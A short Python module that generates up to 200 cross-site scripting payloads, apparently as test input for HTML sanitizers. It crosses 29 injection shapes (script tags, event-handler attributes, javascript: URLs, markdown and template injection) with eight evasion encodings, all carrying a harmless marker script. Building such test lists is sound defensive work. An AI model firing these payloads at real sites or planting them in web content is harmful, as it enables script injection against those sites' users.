"""Texts that would become code in a page that writes text as markup."""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from urllib.parse import quote

CODE = "window.pwned=1"

_SHAPES = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title></style></textarea><script>{}</script>",
    "<img src=x onerror={}>",
    "\"><img src=x onerror='{}'>",
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe src=javascript:{}></iframe>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<a href=javascript:{}>click</a>",
    "[click](javascript:{})",
    '![x](x" onerror="{})',
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
    "<math href=javascript:{}>x</math>",
    "<body onpageshow={}>",
    "<marquee onstart={}>x</marquee>",
    "<button popovertarget=x onclick={} autofocus accesskey=x>x</button>",
    "<div style=width:expression({0}) onpointerenter={0}>x</div>",
    "{{{{constructor.constructor('{}')()}}}}",
]


def _mixed(found: re.Match[str]) -> str:
    return found[0].capitalize().swapcase()


_DISGUISES: list[Callable[[str], str]] = [
    str,
    lambda text: re.sub("script|on[a-z]+|svg|img", _mixed, text),
    html.escape,
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c").replace("javascript", "java\\tscript"),
    lambda text: f"`${{{text}}}`",
    lambda text: f"--></noscript>{text}<!--",
    lambda text: text.replace("<", "<<").replace(" ", "/"),
]

# Some disguises change nothing in some shapes.
_ALL = (disguise(shape.format(CODE)) for shape in _SHAPES for disguise in _DISGUISES)
PAYLOADS = list(dict.fromkeys(_ALL))[:200]
